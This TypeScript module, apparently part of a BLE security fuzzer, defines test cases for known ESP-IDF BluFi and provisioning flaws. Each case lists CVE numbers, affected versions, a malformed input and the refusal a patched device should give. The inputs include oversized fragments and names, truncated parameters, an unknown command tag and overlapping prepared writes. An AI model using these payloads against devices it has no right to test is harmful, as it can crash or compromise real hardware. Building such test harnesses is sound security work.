import { att, attack, times, type KnownBleAttack } from '#fuzz/ble-attack.ts';
import type { SeenService } from '#fuzz/services/grammar.ts';
import { recognisedServices } from '#fuzz/services/recognised.ts';
import { overriddenSteps, soundCase, type ServiceSession } from '#fuzz/services/session.ts';

/** What is made of the sessions of a grammar, by their names. */
const MAKERS: Readonly<Record<string, readonly ((session: ServiceSession) => KnownBleAttack)[]>> = {
  'BluFi negotiation in fragments': [bluFiFragments],
  'BluFi negotiation': [bluFiNegotiation],
  'BluFi credentials': [bluFiCredentials],
  'provisioning, security 1': [overlapping],
  'provisioning, security 2': [missingPayload, longName],
  'provisioning, after it was over': [usedAfterEnd],
};

/** Attacks on services that are told by their UUIDs; none for services that a device does not have. */
export function serviceAttacks(seen: readonly SeenService[]): readonly KnownBleAttack[] {
  return recognisedServices(seen)
    .flatMap(({ sessions }) => sessions)
    .flatMap((session) => (MAKERS[session.name] ?? []).map((make) => make(session)));
}

function bluFiFragments(session: ServiceSession): KnownBleAttack {
  return attack(
    'blufi-fragments',
    ['CVE-2020-16146'],
    'ESP-IDF up to 4.2, BluFi',
    'a fragment that announces four bytes in all, and brings more',
    'drop what was put together',
    overriddenSteps(session, 1, { content: Uint8Array.from({ length: 40 }, (_, at) => (at === 0 ? 4 : 0)) }),
  );
}

function bluFiNegotiation(session: ServiceSession): KnownBleAttack {
  return attack(
    'blufi-negotiation',
    ['CVE-2025-55297'],
    'ESP-IDF 5.0.8 to 5.5, the BluFi example',
    'parameters of a negotiation shorter than was announced',
    'refuse the parameters',
    overriddenSteps(session, 1, { content: Uint8Array.of(1, 0, 0, 0) }),
  );
}

function bluFiCredentials(session: ServiceSession): KnownBleAttack {
  return attack(
    'blufi-credentials',
    ['CVE-2025-55297'],
    'ESP-IDF 5.0.8 to 5.5, the BluFi example',
    'a network name of 200 bytes',
    'refuse it, or keep 32',
    overriddenSteps(session, 2, { content: new Uint8Array(200).fill(0x41) }),
  );
}

function missingPayload(session: ServiceSession): KnownBleAttack {
  return attack(
    'provisioning-missing-payload',
    ['CVE-2026-45542'],
    'ESP-IDF 5.2.6 to 6.0, security 2',
    'a first message whose command is of a number that nobody knows',
    'refuse the message',
    overriddenSteps(session, 0, { 'security2.command.tag': 0x7a }),
  );
}

function longName(session: ServiceSession): KnownBleAttack {
  return attack(
    'provisioning-long-name',
    ['CVE-2026-45542'],
    'ESP-IDF 5.2.6 to 6.0, security 2; over BLE a name has at most 512 bytes, so that the 16 bits of its length hold',
    'a user name of 400 bytes',
    'refuse the message',
    overriddenSteps(session, 0, { 'security2.command.name': new Uint8Array(400).fill(0x41) }),
  );
}

function usedAfterEnd(session: ServiceSession): KnownBleAttack {
  return attack(
    'provisioning-after-end',
    ['CVE-2026-25507'],
    'ESP-IDF 5.1.6 to 5.5.2, Bluetooth kept on after provisioning',
    'provisioning brought to its end, then a new handshake',
    'refuse it',
    soundCase(session).steps,
  );
}

function overlapping({ moves }: ServiceSession): KnownBleAttack {
  const handle = moves[0]?.handle ?? 0;
  const part = att({ type: 'prepareReq', handle, offset: 0, value: new Uint8Array(18) });
  return attack(
    'provisioning-overlapping-writes',
    ['CVE-2026-25508'],
    'ESP-IDF 5.1.6 to 5.5.2, provisioning',
    'a handshake in prepared writes whose offsets overlap while their lengths add up, then execute',
    'refuse by length or offset',
    [...times(16, part), att({ type: 'executeReq', flags: 1 })],
  );
}
